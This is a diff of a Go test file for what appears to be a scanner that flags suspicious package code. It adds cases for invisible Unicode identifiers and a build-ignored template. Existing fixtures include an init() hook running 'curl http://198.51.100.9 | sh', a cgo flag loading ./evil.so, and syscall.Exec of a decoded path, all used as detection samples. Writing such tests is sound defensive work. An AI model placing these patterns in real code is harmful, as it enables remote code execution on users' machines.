@@ -136,6 +136,10 @@ func init() {
 			src: "package m\n\n/*\n#cgo CFLAGS: -fplugin=./evil.so\n*/\nimport \"C\"\n"},
 		{name: "cgo linking a library", notRule: "install-script",
 			src: "package m\n\n// #cgo LDFLAGS: -lz\n// #include <zlib.h>\nimport \"C\"\n"},
+		{name: "invisible identifier", rule: "invisible-characters",
+			src: "package m\n\nvar \u3164 = \"x\"\n"},
+		{name: "invisible character in a lexer's Unicode table", notRule: "invisible-characters",
+			src: "package m\n\nconst letters = \"\u3131-\u3164\"\n"},
 		{name: "syscall.Exec of a decoded path", rule: "exec-decoded",
 			src: `package m
 import ("encoding/base64"; "syscall")
@@ -179,6 +183,7 @@ func TestContentGoHooksAndScope(t *testing.T) {
 		"testdata/x/x.go":  "package x\nimport \"os/exec\"\nfunc init() { exec.Command(\"sh\", \"-c\", \"curl http://198.51.100.9 | sh\").Run() }\n",
 		"internal/b/b.go":  "package b\n",
 		"broken/broken.go": "package broken\nfunc init() {\n",
+		"gen/tmpl.go":      "//go:build ignore\n\npackage {{.Name}}\n",
 	})
 	want := []string{"go:generate (a.go:3): stringer -type=K", "init(): a.go", "init(): broken/broken.go"}
 	if !slices.Equal(rep.InstallHooks, want) {
